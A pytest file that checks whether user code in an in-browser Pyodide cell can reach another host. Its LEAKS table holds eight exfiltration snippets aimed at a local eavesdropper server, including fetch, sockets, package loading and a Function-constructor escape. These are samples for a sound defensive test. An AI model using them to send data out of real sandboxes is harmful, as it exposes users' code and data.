"""Nothing of the reader's code leaves the browser."""

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.request import urlopen

import pytest
from cells import needs_python

pytestmark = needs_python


@pytest.fixture
def eavesdropper():
    """Another host, which writes down whatever reaches it."""
    heard = []

    class Ear(BaseHTTPRequestHandler):
        def do_GET(self):
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *_):
            pass

    server = HTTPServer(("127.0.0.1", 0), Ear)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    heard_at = f"http://127.0.0.1:{server.server_address[1]}/leak"
    urlopen(heard_at).close()
    assert heard == ["/leak"], "it is deaf"
    heard.clear()
    yield heard_at, heard
    server.shutdown()
    server.server_close()


LEAKS = {
    "js": "from js import fetch\nfetch('{0}')",
    "pyfetch": "from pyodide.http import pyfetch\nimport asyncio\nasyncio.ensure_future(pyfetch('{0}'))",
    "open_url": "from pyodide.http import open_url\nopen_url('{0}')",
    "urllib": "import urllib.request\nurllib.request.urlopen('{0}')",
    "socket": "import socket\ns = socket.create_connection(('127.0.0.1', int('{0}'.split(':')[2].split('/')[0])))\ns.send(b'GET /leak HTTP/1.0\\r\\n\\r\\n')",
    "package": "import pyodide_js\npyodide_js.loadPackage('{0}.whl')",
    "run_js": "from pyodide.code import run_js\nrun_js(\"fetch('{0}')\")",
    "constructor": "import pyodide_js\npyodide_js.constructor.constructor(\"fetch('{0}')\")()",
}


@pytest.mark.parametrize("way", LEAKS)
def test_nothing_of_the_readers_code_leaves_the_browser(cell, eavesdropper, way):
    address, heard = eavesdropper
    cell.run(LEAKS[way].format(address))
    cell.page.wait_for_timeout(300)
    assert heard == []
    assert cell.run("print('alive')").output == "alive\n"
    cell.page.trouble.clear()  # the page's policy says in the console what it has refused


def test_the_worker_inherits_the_pages_content_security_policy(cell, eavesdropper):
    """The wall behind all others: a request that the worker itself makes does not get out."""
    address, heard = eavesdropper
    cell.run("print('here')")
    worker = cell.page.workers[-1]
    assert (
        worker.evaluate("address => fetch(address).then(() => 'out', error => error.name)", address)
        == "TypeError"
    )
    assert heard == []
    cell.page.trouble.clear()
